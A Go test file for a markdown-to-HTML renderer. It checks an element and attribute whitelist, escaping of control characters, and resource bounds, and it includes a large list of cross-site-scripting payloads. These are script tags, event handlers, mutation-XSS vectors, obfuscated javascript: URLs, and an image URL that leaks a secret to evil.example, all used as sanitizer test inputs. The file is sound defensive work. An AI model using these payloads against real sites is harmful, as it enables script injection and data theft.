package markdown

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// allowed lists every element the renderer may produce, with its attributes.
// Values are checked in checkAttr.
var allowed = map[string][]string{
	"p": nil, "br": nil, "hr": nil, "pre": nil, "em": nil, "strong": nil, "del": nil, "blockquote": nil,
	"h1": nil, "h2": nil, "h3": nil, "h4": nil, "h5": nil, "h6": nil,
	"ul": nil, "ol": {"start"}, "li": nil,
	"table": nil, "thead": nil, "tbody": nil, "tr": nil, "th": {"align"}, "td": {"align"},
	"a": {"href", "rel", "target"}, "code": {"class"}, "div": {"class"}, "span": {"class"},
}

func checkAttr(tag, key, val string) bool {
	if !slices.Contains(allowed[tag], key) {
		return false
	}
	switch tag + "." + key {
	case "a.href":
		for _, c := range []byte(val) {
			if c <= ' ' || c > '~' {
				return false
			}
		}
		return strings.HasPrefix(val, "http://") || strings.HasPrefix(val, "https://") || strings.HasPrefix(val, "mailto:")
	case "a.rel":
		return val == "nofollow noopener noreferrer"
	case "a.target":
		return val == "_blank"
	case "code.class":
		name, ok := strings.CutPrefix(val, "language-")
		return ok && languages[name] && strings.Trim(name, "abcdefghijklmnopqrstuvwxyz0123456789+#-") == ""
	case "div.class":
		return val == "scroll"
	case "span.class":
		return val == "hid" || slices.Contains([]string{"k", "s", "m", "c", "nf", "gi", "gd"}, val)
	case "th.align", "td.align":
		return val == "left" || val == "center" || val == "right"
	case "ol.start":
		return val != "" && strings.Trim(val, "0123456789") == ""
	}
	return false
}

// check fails unless out holds nothing but what is allowed, both as it is
// written and as a browser would build it.
func check(t *testing.T, src, out string) {
	t.Helper()
	fail := func(format string, args ...any) {
		t.Helper()
		t.Fatalf("%s\nfrom %.300q\nout  %.600q", fmt.Sprintf(format, args...), src, out)
	}
	if !utf8.ValidString(out) {
		fail("invalid UTF-8")
	}
	if i := strings.IndexFunc(out, isControl); i >= 0 {
		fail("control character at %d", i)
	}

	// As written: every element known, closed in order, no link in a link.
	var open []string
	z := html.NewTokenizer(strings.NewReader(out))
	for kind := z.Next(); kind != html.ErrorToken; kind = z.Next() {
		tok := z.Token()
		switch kind {
		case html.StartTagToken:
			if _, ok := allowed[tok.Data]; !ok {
				fail("element %q", tok.Data)
			}
			seen := map[string]bool{}
			for _, a := range tok.Attr {
				if seen[a.Key] || !checkAttr(tok.Data, a.Key, a.Val) {
					fail("attribute %s %s=%q", tok.Data, a.Key, a.Val)
				}
				seen[a.Key] = true
			}
			if tok.Data == "a" && (len(tok.Attr) != 3 || slices.Contains(open, "a")) {
				fail("bad link %v", tok)
			}
			if tok.Data != "br" && tok.Data != "hr" {
				open = append(open, tok.Data)
			}
			if len(open) > 500 {
				fail("too deep")
			}
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != tok.Data {
				fail("</%s> closes %v", tok.Data, open)
			}
			open = open[:len(open)-1]
		case html.TextToken:
		default:
			fail("%v token", kind)
		}
	}
	if len(open) > 0 {
		fail("never closed: %v", open)
	}

	// As built.
	for n := range tree(t, out).Descendants() {
		if n.Type == html.ElementNode {
			if _, ok := allowed[n.Data]; !ok || n.Namespace != "" {
				fail("built element %q", n.Data)
			}
			for _, a := range n.Attr {
				if !checkAttr(n.Data, a.Key, a.Val) {
					fail("built attribute %s %s=%q", n.Data, a.Key, a.Val)
				}
			}
		} else if n.Type != html.TextNode {
			fail("built node of type %v", n.Type)
		}
	}
}

func tree(t *testing.T, out string) *html.Node {
	t.Helper()
	root := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(out), root)
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range nodes {
		root.AppendChild(n)
	}
	return root
}

// seen returns the text a reader sees.
func seen(t *testing.T, out string) string {
	var b strings.Builder
	for n := range tree(t, out).Descendants() {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
	}
	return b.String()
}

func TestGolden(t *testing.T) {
	const rel = ` rel="nofollow noopener noreferrer" target="_blank"`
	for _, c := range []struct{ name, src, want string }{
		{"empty", "", ""},
		{"paragraph", "one *two* __three__\nfour  \nfive\n", "<p>one <em>two</em> <strong>three</strong>\nfour<br>\nfive</p>\n"},
		{"headings take no id", "# A {#x .y}\n\nB\n---\n", "<h1>A {#x .y}</h1>\n<h2>B</h2>\n"},
		{"quote and rule", "> a\n\n---\n", "<blockquote>\n<p>a</p>\n</blockquote>\n<hr>\n"},
		{"strikethrough", "~~gone~~ 5 < 6 & \"q\"", "<p><del>gone</del> 5 &lt; 6 &amp; &quot;q&quot;</p>\n"},
		{"table", "| a | b | c | d |\n|:--|:-:|--:|---|\n| `x` | **y** |\n",
			"<div class=\"scroll\"><table>\n<thead>\n<tr>\n<th align=\"left\">a</th>\n<th align=\"center\">b</th>\n<th align=\"right\">c</th>\n<th>d</th>\n</tr>\n</thead>\n" +
				"<tbody>\n<tr>\n<td align=\"left\"><code>x</code></td>\n<td align=\"center\"><strong>y</strong></td>\n<td></td>\n<td></td>\n</tr>\n</tbody>\n</table></div>\n"},
		{"nested lists", "- a\n  - b\n    1. c\n    2. d\n", "<ul>\n<li>a\n<ul>\n<li>b\n<ol>\n<li>c</li>\n<li>d</li>\n</ol>\n</li>\n</ul>\n</li>\n</ul>\n"},
		{"list with a start", "5. a\n6. b\n", "<ol start=\"5\">\n<li>a</li>\n<li>b</li>\n</ol>\n"},
		{"tasks are text", "- [ ] a\n- [x] b\n", "<ul>\n<li>☐ a</li>\n<li>☑ b</li>\n</ul>\n"},
		{"code of a known language", "```Go\nif a < b {\n\n}\n```\n", "<pre><code class=\"language-go\">if a &lt; b {\n\n}\n</code></pre>\n"},
		{"code of a strange language", "~~~\"><script>\nx\n~~~\n", "<pre><code>x\n</code></pre>\n"},
		{"c++ and c#", "```c++ title=x\n```\n```c#\n```\n", "<pre><code class=\"language-c++\"></code></pre>\n<pre><code class=\"language-c#\"></code></pre>\n"},
		{"fence that never ends", "```sh\nls", "<pre><code class=\"language-sh\">ls\n</code></pre>\n"},
		{"indented code", "    a\n\tb\n", "<pre><code>a\nb\n</code></pre>\n"},
		{"link", "[a *b*](https://ok.example/?x=1&amp;y=é \"title\")", `<p><a href="https://ok.example/?x=1&amp;y=%C3%A9"` + rel + ">a <em>b</em></a></p>\n"},
		{"reference link", "[a][r] [r]\n\n[r]: mailto:a@b.example", `<p><a href="mailto:a@b.example"` + rel + `>a</a> <a href="mailto:a@b.example"` + rel + ">r</a></p>\n"},
		{"autolinks", "<https://ok.example> www.ok.example a@b.example", `<p><a href="https://ok.example"` + rel + `>https://ok.example</a> <a href="http://www.ok.example"` + rel + `>www.ok.example</a> <a href="mailto:a@b.example"` + rel + ">a@b.example</a></p>\n"},
		{"other links are text", "[a](/logout) [b](//evil.example) [c](x.md) <ftp://f.example>", "<p>a b c ftp://f.example</p>\n"},
		{"image", "![a *b*](https://i.example/x.png)", `<p><a href="https://i.example/x.png"` + rel + ">image: a <em>b</em></a></p>\n"},
		{"image without words", "![](https://i.example/x.png)", `<p><a href="https://i.example/x.png"` + rel + ">image: https://i.example/x.png</a></p>\n"},
		{"local image", "![a](x.png)", "<p>image: a</p>\n"},
		{"image in a link", "[![a](https://i.example/x.svg)](https://ok.example)", `<p><a href="https://ok.example"` + rel + ">image: a</a></p>\n"},
		{"link in an image", "![a [b](https://b.example)](https://i.example)", `<p><a href="https://i.example"` + rel + ">image: a b</a></p>\n"},
		{"link in an unsafe link", "[a <https://b.example>](/x)", `<p>a <a href="https://b.example"` + rel + ">https://b.example</a></p>\n"},
		{"raw html is text", "a <b onclick=x>c</b> <!-- d -->", "<p>a &lt;b onclick=x&gt;c&lt;/b&gt; &lt;!-- d --&gt;</p>\n"},
		{"html block is text", "<script>\nx\n</script>\n\ny", "<pre><code>&lt;script&gt;\nx\n&lt;/script&gt;\n</code></pre>\n<p>y</p>\n"},
		{"controls", "a\x1b[1m \u202eb\u2069\u009b\x00\x7f \u200fc", "<p>a<span class=\"hid\">U+001B</span>[1m <span class=\"hid\">U+202E</span>b<span class=\"hid\">U+2069 U+009B</span>\uFFFD<span class=\"hid\">U+007F</span> \u200fc</p>\n"},
		{"controls in code", "`\u202d`\n\n```\n\x07\t\u2066\n```\n", "<p><code><span class=\"hid\">U+202D</span></code></p>\n<pre><code><span class=\"hid\">U+0007</span>\t<span class=\"hid\">U+2066</span>\n</code></pre>\n"},
		{"controls as entities", "&#x202e;&#27;&#13;", "<p><span class=\"hid\">U+202E U+001B U+000D</span></p>\n"},
		{"controls in an address", "[a](<https://ok.example/\u202e>)", `<p><a href="https://ok.example/%E2%80%AE"` + rel + ">a</a></p>\n"},
		{"crlf and a lone cr", "a\r\nb\rc", "<p>a\nb<span class=\"hid\">U+000D</span>c</p>\n"},
		{"crlf in code", "```\r\na\r\n```\r\n", "<pre><code>a\n</code></pre>\n"},
		{"mail to nobody", "[a](mailto:) [b](mailto://x/y)", "<p>a b</p>\n"},
		{"very long address", "[a](https://ok.example/" + strings.Repeat("x", maxURL) + ")", "<p>a</p>\n"},
		{"not utf-8", "a\xffb", "<p>a\uFFFDb</p>\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := HTML(c.src)
			if got != c.want {
				t.Errorf("%q\n got %q\nwant %q", c.src, got, c.want)
			}
			check(t, c.src, got)
		})
	}
}

var hostile = []string{
	// elements and handlers
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`, `<img src="jav&#x09;ascript:alert(1)">`, `<img/src=x/onerror=alert(1)//`,
	`<svg onload=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`, `<object data="data:text/html;base64,PHNjcmlwdD4="></object>`, `<embed src=x>`,
	`<form action=/approve method=post><button>ok</button></form>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`,
	`<base href=https://evil.example/>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href=https://evil.example/x.css>`,
	`<style>@import 'https://evil.example/x.css';</style>`, `<p style="position:fixed">x</p>`, `<b id=approve class=btn name=x data-gone=1>x</b>`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea></textarea><script>x</script>`, `<title></title><plaintext>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<!--><script>alert(1)</script>`, `<!-- --!><img src=x onerror=alert(1)> -->`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo 1 ?>`, `<!DOCTYPE html>`, `</p><script>x</script>`, `</div></body></html><script>x</script>`, "<a\nhref=javascript:alert(1)\n>x</a>", `<a href="javascript:alert(1)">x</a>`,
	"<div>\n\n*a*\n\n</div>", `<x onclick=alert(1)>`, "<pre>\n<script>\n</pre>", `<a href='x' x="> onclick=alert(1) y=`, "<\x00script>alert(1)</script>", "<ſcript>", `<script/xss>`, `<a title="</pre>">`,
	// addresses
	`[a](javascript:alert(1))`, `[a](JaVaScRiPt:alert(1))`, `[a](java&#10;script:alert(1))`, `[a](java&Tab;script:alert(1))`, `[a](&#106;avascript:alert(1))`, `[a](javascript&colon;alert(1))`,
	"[a](<java\tscript:alert(1)>)", "[a](<\x01javascript:alert(1)>)", `[a](<  javascript:alert(1)>)`, `[a](\javascript:alert(1))`, `[a](javascript\:alert(1))`, `[a](%6aavascript:alert(1))`,
	`[a](data:text/html,<script>alert(1)</script>)`, `[a](data:image/svg+xml;base64,PHN2Zz4=)`, `[a](vbscript:x)`, `[a](blob:https://x/y)`, `[a](filesystem:x)`, `[a](file:///etc/passwd)`, `[a](intent://x#Intent;end)`,
	`[a](view-source:x)`, `[a](tel:1)`, `[a](ftp://x)`, `[a](//evil.example)`, `[a](\\evil.example)`, `[a](/\evil.example)`, `[a](/logout)`, `[a](logout?x=1)`, `[a](?x)`, `[a](#approve)`, `[a]()`, `[a](http:)`, `[a](http:/x)`,
	`[a](http:///x)`, `[a](http:logout)`, `[a](https:\\evil.example)`, `[a](http://)`, `[a](http://:80/)`, `[a](http://@/)`, `[a](http://[::1)`, `[a](http://%00/)`, `[a](mailto:)`, `[a](mailto:/x)`, `[a](mailto://x/y)`,
	`[a](https://ok.example/"onmouseover="alert(1))`, `[a](https://ok.example/'onx='y)`, `[a](https://ok.example/&quot;onx=)`, `[a](<https://ok.example/"><script>alert(1)</script>>)`, `[a](https://ok.example "\" onmouseover=\"x")`,
	`[a](https://ok.example 'x"onx="y')`, `[a](https://"onx=y)`, `[a](https://a"@ok.example)`, "[a](https://ok.example/`x`)", `[a](https://ok.example/%22)`, `[a](https://ok.example/?q=<b>)`, "[a](https://ok.example/\u202e)",
	`<javascript:alert(1)>`, `<data:text/html,x>`, `<https://ok.example/"onx=y>`, `<https://ok.example/'>`, `<a@b.example>`, `<mailto:a@b.example>`, `<x:y>`, `<https:x>`, `<MAILTO:a@b.example>`,
	`https://ok.example/"onx=y www.ok.example/<script> javascript:alert(1) a@b.example"onx`, `(https://ok.example/a_(b)) *https://ok.example*`, `www.ok.example/?a=1&b=2&amp;c`,
	"[a][r]\n\n[r]: javascript:alert(1)", "[r]\n\n[r]: /logout 'x'", "[r][]\n\n[r]: data:text/html,x", "[a][R]\n\n[r]: <https://ok.example/\"x> \"t\"", "[a]: https://x.example/'\"><script>\n\n[a]", "[\u202ea\u202c](https://ok.example)",
	`[a](https://ok.example)[b](javascript:x)`, `[[a](https://x.example)](https://y.example)`, `[a <b@c.example> d](https://y.example)`, `[https://x.example](https://y.example)`, `[![a](https://x.example)![b](https://z.example)](https://y.example)`,
	// images
	`![SECRET](https://evil.example/p.png?q=SECRET)`, `![x](data:image/png;base64,AAAA)`, `![x](javascript:alert(1))`, `![" onerror="x](https://x.example)`, `![<script>](x)`, "![a][i]\n\n[i]: https://x.example/a.png", `![![![a](b)](https://x.example)](c)`, `![](<data:x,">)`, `![]()`,
	// fences
	"```html\n<script>alert(1)</script>\n```", "```html\" onx=1\n<script>\n```", "```\"><script>alert(1)</script>\nx\n```", "```go onclick=alert(1) {.x #y style=z}\nx\n```", "```&quot;onx=1\nx\n```", "```go\\\" x\nx\n```",
	"\\```\n<script>alert(1)</script>\n```", "\\`<script>\\`", "    ```\n<script>alert(1)</script>\n    ```", "```\n    ```\n<script>\n```", "```\n~~~\n<script>\n```\n<script>", "~~~\n```\n<script>\n~~~\n<b>", "``` x`y\n<script>\n```",
	"````\n```\n<script>\n````", "> ```\n> <script>\n<script>\n", "- ```\n  <script>\n<script>", "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```", "```svg\n<svg onload=alert(1)>\n```", "```\r\n<script>\r\n```\r\n", "```\x00go\nx\n```", "```\u202ego\nx\n```", "`` <script> ` ``", "`<script>", "`a\n<script>`",
	// entities and escapes
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `&#x3c;script&#x3e;`, `\<script\>`, `&ltscript&gt`, `&amp;lt;b&amp;gt;`, `&quot;&apos;&#34;`, `\&lt;`, `&#0; &#xD800; &#x110000; &#99999999;`, `&NewLine;&Tab;&colon;&lpar;`, "\\", "&", "&#", "&#x",
	// structure
	"|a|\n|-|\n|<script>|\n|[x](javascript:y)|", "|\"onx=|\n|:-:|\n|`\\|<b>`|", "| a |\n| - |\n| ![x](https://x.example) | extra | cells |", "# <script>\n## [a](javascript:x) {onclick=x}", "- [ ] <script>\n- [x](javascript:y)\n- [X] z", "- [ ](https://x.example)",
	"1. a\n\n   <script>\n\n99999999999. b\n999999999. c", "0. a\n007. b", "> <div\n> onclick=x>\n\n</div>", "***a **b *c d** e* f***", "~~a ~b~~ c~", "[^1]\n\n[^1]: <script>", "term\n: definition", ":smile: @user #1 $x$ $$y$$", "{{ .X }} {% x %} ${x}", "\ufeff# a", "a\u2028<script>\u2029b",
	"\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07", "\x1b[31m<script>\x1b[0m", "a\u202e<b>\u2066c", "\xff<script>\xfe", "\xed\xa0\x80<b>", "<\xffscript>", "<a href=\"\xff\">",
}

// TestR17Hostile: whatever a model writes, and whatever stands around it, only nod's own
// elements come out, without attributes that do anything.
func TestR17Hostile(t *testing.T) {
	for _, s := range hostile {
		for _, wrap := range []string{"%s", "a %s b", "> %s", "- %s", "# %s", "|%s|\n|-|\n|%[1]s|", "**%s**", "[%s](https://ok.example)", "![%s](https://ok.example)", "```\n%s\n```", "`%s`", "%[1]s\n\n%[1]s", "<div>%s</div>", "\t%s"} {
			src := fmt.Sprintf(wrap, s)
			check(t, src, HTML(src))
		}
	}
}

// What is not escaped yet is no address: nothing but printable ASCII may come out.
func TestSafeURL(t *testing.T) {
	for in, want := range map[string]string{
		"HTTPS://ok.example/a'b?x=1&y=2#z": "https://ok.example/a'b?x=1&amp;y=2#z",
		"http://[2001:db8::1]:80/":         "http://[2001:db8::1]:80/",
		"https://ok.example/é":             "https://ok.example/%C3%A9",
		"https://ok.example/?é":            "",
		"https://ok.example/? ":            "",
		"mailto:a@b.example\u202e":         "",
		"https://ok.example/\x7f":          "",
	} {
		if got := safeURL([]byte(in)); string(got) != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func TestRawHTMLStaysReadable(t *testing.T) {
	for _, s := range hostile {
		if !strings.HasPrefix(s, "<") || strings.ContainsAny(s, "&\x00\v\f\xff\n\\*") || strings.Contains(s, ":x") {
			continue
		}
		want := strings.Trim(s, "<>")
		if got := seen(t, HTML(s)); !strings.Contains(got, want) {
			t.Errorf("%q shows as %q", s, got)
		}
	}
}

func TestTooLargeIsPlainText(t *testing.T) {
	for name, src := range map[string]string{
		"bytes":  strings.Repeat("*a* <b> \x1b ", maxSource/10+1),
		"lines":  strings.Repeat("*a*\n", maxLines+1),
		"output": "[a]: https://" + strings.Repeat("x", 1900) + ".example\n\n" + strings.Repeat("[a]\n\n", 9000),
	} {
		out := HTML(src)
		check(t, name, out)
		if !strings.HasPrefix(out, "<pre><code>") || strings.Count(out, "<pre>") != 1 || strings.Contains(out, "<em>") || strings.Contains(out, "<a ") {
			t.Errorf("%s: %.80q", name, out)
		}
	}
	if out := HTML(strings.Repeat("*a* bcdefghijkl\n", maxSource/16)); !strings.HasPrefix(out, "<p><em>") {
		t.Errorf("at the limit: %.80q", out)
	}
}

func TestPanicIsPlainText(t *testing.T) {
	got := renderOr([]byte("*a* <b>"), func() (string, bool) { panic("parser") })
	if want := "<pre><code>*a* &lt;b&gt;</code></pre>\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestR39Depth(t *testing.T) {
	for _, src := range []string{strings.Repeat(">", 10_000) + "a", strings.Repeat("> ", 10_000), strings.Repeat("* + - ", 3000) + "a"} {
		out := HTML(src)
		check(t, src, out)
		if got := strings.Count(out, "<blockquote>") + strings.Count(out, "<ul>"); got != maxDepth {
			t.Errorf("%.20q: %d levels, want %d", src, got, maxDepth)
		}
	}
}

// Nothing is lost when a bound is reached: the marks beyond it are shown.
func TestMarksBeyondTheBoundAreText(t *testing.T) {
	src := strings.TrimSpace(strings.Repeat("`a` ", 2*maxMarks))
	out := HTML(src)
	if got := strings.Count(out, "<code>"); got != maxMarks {
		t.Errorf("%d code spans, want %d", got, maxMarks)
	}
	if got := strings.Count(seen(t, out), "`a`"); got != maxMarks {
		t.Errorf("%d shown as text, want %d", got, maxMarks)
	}
	if out := HTML(src + "\n\n*b*"); !strings.Contains(out, "<em>b</em>") {
		t.Error("the next block did not start anew")
	}
}

func TestR39Definitions(t *testing.T) {
	if out := HTML(strings.Repeat("[a]: b\n", maxDefs)); out != "" {
		t.Errorf("definitions are shown: %.80q", out)
	}
	if out := HTML(strings.Repeat("[a]: b\n", maxDefs+1)); strings.Count(out, "[a]: b\n") != maxDefs {
		t.Errorf("too many are not: %.80q", out)
	}
}

func TestR39TableCells(t *testing.T) {
	head := strings.Repeat("|a", 150) + "\n" + strings.Repeat("|-", 150) + "\n"
	if out := HTML(head + strings.Repeat("|\n", 100)); !strings.Contains(out, "<table>") {
		t.Error("a table of ordinary size was refused")
	}
	if out := HTML(head + strings.Repeat("|\n", 200)); strings.Contains(out, "<table>") {
		t.Error("a table of 30,000 cells was made from 700 bytes")
	}
	var many strings.Builder
	for range 100 {
		many.WriteString(head + strings.Repeat("|\n", 50) + "\n")
	}
	if got := strings.Count(HTML(many.String()), "<td"); got > maxCells || got < maxCells/2 {
		t.Errorf("many tables: %d cells", got)
	}
}

// TestR39Pathological: inputs made to be slow or to grow. Without the bounds some take minutes, with
// them the worst takes about a third of a second.
func TestR39Pathological(t *testing.T) {
	fill := func(s string) string {
		n := maxSource / len(s)
		if c := strings.Count(s, "\n"); c > 0 {
			n = min(n, maxLines/c-1)
		}
		return strings.Repeat(s, n)
	}
	var runs, deep strings.Builder
	for i := 1; i < 700; i++ {
		runs.WriteString(strings.Repeat("`", i) + " ")
	}
	for i := range 300 {
		deep.WriteString(strings.Repeat("  ", i) + "- a\n")
	}
	for name, src := range map[string]string{
		"10,000 quotes":      strings.Repeat(">", 10_000),
		"million backticks":  strings.Repeat("`", 1_000_000),
		"20,000 brackets":    strings.Repeat("[", 20_000),
		"brackets":           fill("["),
		"bracket pairs":      fill("[a]"),
		"images":             fill("![]("),
		"image openers":      fill("](!["),
		"nested images":      strings.Repeat("![", 400) + strings.Repeat("](https://x.example/)", 400),
		"titles":             fill("[a](b ("),
		"definitions":        fill("[a]: b (\n"),
		"more definitions":   fill("[a]: b\n(\n"),
		"emphasis":           fill("*a _b "),
		"closers":            strings.Repeat("*a _b ", 20_000) + strings.Repeat("a_ b* ", 20_000),
		"strikes":            "x " + fill("~~~a")[2:],
		"backtick runs":      runs.String(),
		"runs over lines":    runs.String()[:80_000] + strings.Repeat("a\n", 19_000),
		"backticks in lines": fill("`\n"),
		"deep list":          deep.String() + strings.Repeat("\n", 19_000) + "x",
		"list markers":       fill("* + - "),
		"quotes and lists":   fill("> - "),
		"wide table":         strings.Repeat("|a", 30_000) + "\n" + strings.Repeat("|-", 30_000) + "\n" + strings.Repeat("|\n", 10_000),
		"escaped pipes":      strings.Repeat("|a|\n|-|\n"+strings.Repeat("|`\\|`|\n", 30)+"\n", 600),
		"comments":           fill("a <!-- "),
		"tags":               fill("<a b=\"<a c=\" d=\""),
		"attributes":         "x <a" + fill(" a")[:maxSource-4],
		"entities":           fill("&#x202e;"),
		"escapes":            fill("\x1b"),
		"addresses":          fill("(http://"),
		"mails":              "x " + fill("~~~a@b")[2:],
		"heading":            "# " + fill("[")[2:],
	} {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			out := HTML(src)
			// Below a second; what is worse than linear runs into the timeout of go test.
			t.Logf("%d kB to %d kB in %v", len(src)/1000, len(out)/1000, time.Since(start))
			if len(out) > 2*maxOutput {
				t.Errorf("%d bytes of output", len(out))
			}
			check(t, src, out)
		})
	}
}

func TestConcurrent(t *testing.T) {
	want := HTML(hostile[0] + "\n\n`a` *b*\n\n|a|\n|-|\n")
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for range 50 {
				if got := HTML(hostile[0] + "\n\n`a` *b*\n\n|a|\n|-|\n"); got != want {
					t.Error(got)
				}
			}
		})
	}
	wg.Wait()
}

func FuzzHTML(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := HTML(s)
		check(t, s, out)
		whole := Stream{whole: true}
		whole.Update(s, true)
		if (whole.declined || whole.plain) && len(s) < 1000 { // also: does not panic
			t.Fatalf("declined %q", s)
		}
	})
}
